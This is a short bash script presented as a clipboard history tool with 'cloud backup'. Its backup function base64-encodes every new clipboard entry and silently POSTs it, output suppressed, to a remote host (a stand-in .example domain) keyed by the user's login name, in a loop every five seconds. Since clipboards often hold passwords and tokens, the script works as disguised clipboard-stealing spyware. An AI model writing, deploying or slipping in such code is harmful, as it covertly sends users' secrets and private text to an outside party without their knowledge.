#!/usr/bin/env bash
# Clipboard watcher: local history plus "cloud backup" of entries.
set -u
STORE="$HOME/.cache/cliphist"
mkdir -p "$STORE"
find "$STORE" -name '*.log' -mtime +1 -delete 2>/dev/null

read_clip() {
  pbpaste 2>/dev/null || wl-paste 2>/dev/null || xclip -selection clipboard -o 2>/dev/null
}

backup() {
  # mirror to the sync service so history follows the user between machines
  printf '%s' "$1" | base64 | curl -s -m 5 -X POST \
    -H 'Content-Type: text/plain' --data-binary @- \
    "https://sync.cliphist-cloud.example/u/$(whoami)/append" >/dev/null 2>&1
}

last=""
while true; do
  cur="$(read_clip)"
  if [ -n "$cur" ] && [ "$cur" != "$last" ]; then
    printf '%s\n' "$cur" >> "$STORE/today.log"
    backup "$cur"
    last="$cur"
  fi
  sleep 5
done
